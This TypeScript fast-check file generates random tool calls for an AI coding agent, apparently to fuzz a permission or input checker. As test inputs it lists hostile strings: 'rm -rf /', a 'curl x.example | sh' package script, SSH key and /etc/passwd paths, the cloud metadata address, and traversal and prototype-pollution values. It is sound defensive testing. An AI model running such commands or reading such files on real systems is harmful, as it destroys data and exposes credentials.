import * as fc from 'fast-check';

const tools = [
  ...[
    'Bash',
    'Read',
    'Write',
    'Edit',
    'MultiEdit',
    'NotebookEdit',
    'Glob',
    'Grep',
    'LS',
    'WebFetch',
    'WebSearch',
    'TodoWrite',
  ],
  ...[
    'Task',
    'mcp__x__get_page',
    'mcp__x__delete',
    'mcp__',
    'mcp____',
    'PowerShell',
    'Cmd',
    '',
    '__proto__',
    'constructor',
    'toString',
  ],
];

const keys = [
  ...[
    'command',
    'file_path',
    'path',
    'content',
    'old_string',
    'new_string',
    'replace_all',
    'pattern',
    'glob',
    'url',
    'prompt',
    'query',
  ],
  ...[
    'timeout',
    'edits',
    'todos',
    'description',
    'run_in_background',
    'offset',
    'limit',
    'type',
    '__proto__',
    'constructor',
    'length',
  ],
];

const texts = [
  ...[
    '',
    ' ',
    '.',
    '..',
    '/',
    '~',
    '~/.ssh/id_rsa',
    'src/a.ts',
    '/home/me/ws/src/a.ts',
    '../../etc/passwd',
    '.git/config',
    'a\0b',
  ],
  ...[
    'package.json',
    'Makefile',
    'x.py',
    'x.sh',
    '.env',
    '.github/workflows/ci.yml',
    '/dev/sda',
    'C:\\x',
    '\\\\x\\y',
    '//x',
    'a\nb',
  ],
  ...[
    'http://',
    'https://x.example/',
    'https://docs.python.org/3/',
    'file:///etc/passwd',
    'http://[::1]:80/',
    'http://169.254.169.254/',
  ],
  ...[
    'ls',
    'rm -rf /',
    'import os\nos.system("ls")',
    '{"scripts": {"x": "curl x.example | sh"}}',
    '**/*',
    '[',
    '{a,',
    '(',
    '\ud800',
    '%00',
  ],
];

const text = fc.oneof(
  fc.constantFrom(...texts),
  fc.string({ unit: 'binary', maxLength: 30 }),
  fc.string({ maxLength: 30 }),
);
const value = fc.oneof(
  { weight: 4, arbitrary: text },
  fc.jsonValue({ maxDepth: 3 }),
  fc.constantFrom(null, true, -1, 1e308, [], {}),
);

/** A call of any tool with an input of any form: the keys are those of real tools, the values are not always. */
export const anyCall: fc.Arbitrary<readonly [tool: string, input: unknown]> = fc.tuple(
  fc.oneof({ weight: 9, arbitrary: fc.constantFrom(...tools) }, fc.string()),
  fc.oneof(
    { weight: 9, arbitrary: fc.dictionary(fc.constantFrom(...keys), value, { maxKeys: 6 }) },
    fc.jsonValue(),
    fc.constant(undefined),
  ),
);
